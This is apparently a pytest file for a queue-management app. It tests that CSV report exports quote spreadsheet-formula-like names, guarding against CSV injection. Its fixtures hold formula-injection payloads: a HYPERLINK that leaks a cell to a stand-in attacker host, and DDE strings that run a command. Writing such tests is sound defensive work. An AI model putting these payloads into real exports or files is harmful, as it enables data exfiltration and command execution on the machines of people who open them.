"""CSV exports open in a spreadsheet as data: names that start like a formula are written as text, in every
report variant (summary by service, counter, clerk and day; every leg), and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from tests.factories import make_office, make_staff, sign_in
from waitwell.csv_export import csv_text, spreadsheet_safe
from waitwell.metrics.report import GROUPINGS
from waitwell.persistence import Role
from waitwell.services import accounts, counters, tickets

SERVICE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
OTHER_SERVICE = "+SUM(1,2)"
COUNTER = "-2+3+cmd|' /C calc'!A0"
CLERK = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = (SERVICE, OTHER_SERVICE, COUNTER, CLERK)


@pytest.fixture
def hostile_office(runtime, clock):
    """Services, a counter and a clerk named like formulas; one ticket served, one waiting."""
    office = make_office(runtime, services=((SERVICE, "A"), (OTHER_SERVICE, "B")), counters={COUNTER: ["A", "B"]})
    clerk = accounts.create_user(runtime.uow(), username="clerk-1", password="correct-horse-battery",
                                 role=Role.CLERK, office_ids=[office.office_id], display_name=CLERK)
    served = tickets.issue_ticket(runtime.uow(), service_id=office.services["A"])
    tickets.issue_ticket(runtime.uow(), service_id=office.services["B"])
    clock.advance(minutes=4)
    counters.call_next(runtime.uow(), counter_id=office.counters[COUNTER], user_id=clerk.id)
    clock.advance(minutes=3)
    counters.complete(runtime.uow(), ticket_id=served.id)
    return office


def _export(client, office_id: int, rows: str, group_by: str) -> list[list[str]]:
    response = client.get(f"/api/v1/offices/{office_id}/reports.csv?from=2026-03-10&to=2026-03-10"
                          f"&rows={rows}&group_by={group_by}")
    assert response.status_code == 200, response.get_data(as_text=True)
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize("group_by", GROUPINGS)
@pytest.mark.parametrize("rows", ["summary", "legs"])
def test_no_export_variant_carries_a_live_formula(runtime, client, hostile_office, rows, group_by):
    sign_in(client, make_staff(runtime, [hostile_office.office_id], role=Role.SUPERVISOR))
    table = _export(client, hostile_office.office_id, rows, group_by)
    cells = [cell for row in table for cell in row]
    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert live == [], f"cells a spreadsheet would run as formulas: {live}"
    names = {cell[1:] for cell in cells if cell.startswith("'")}
    expected = {"summary": {"service": {SERVICE, OTHER_SERVICE}, "counter": {COUNTER}, "clerk": {CLERK},
                            "day": set()},
                "legs": {group: {SERVICE, OTHER_SERVICE, COUNTER} for group in GROUPINGS}}[rows][group_by]
    assert names == expected, "each hostile name is still there, as text after a quote"


def test_numbers_stay_numbers(runtime, client, hostile_office):
    sign_in(client, make_staff(runtime, [hostile_office.office_id], role=Role.SUPERVISOR))
    header, first, *_ = _export(client, hostile_office.office_id, "legs", "service")
    leg = dict(zip(header, first, strict=True))
    assert (leg["ticket_id"], leg["wait_min"], leg["service_min"]) == ("1", "4.0", "3.0")
    assert leg["joined_line"] == "2026-03-10T10:00:00-04:00"


def test_only_text_that_starts_like_a_formula_is_quoted():
    assert [spreadsheet_safe(value) for value in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1")] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1"]
    assert [spreadsheet_safe(value) for value in (-1.5, -3, 0, "", "A001", "a=b", "Counter -1")] == [
        -1.5, -3, 0, "", "A001", "a=b", "Counter -1"]
    assert csv_text([["name", "wait_min"], ["-5 min", -5.0]]) == "name,wait_min\r\n'-5 min,-5.0\r\n"
